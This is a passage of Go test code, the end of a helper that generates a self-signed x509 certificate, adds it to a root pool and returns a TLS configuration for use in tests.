	der, err := x509.CreateCertificate(rand.Reader, template, template, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	cert, err := x509.ParseCertificate(der)
	if err != nil {
		t.Fatal(err)
	}
	roots.AddCert(cert)
	return &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}}
}
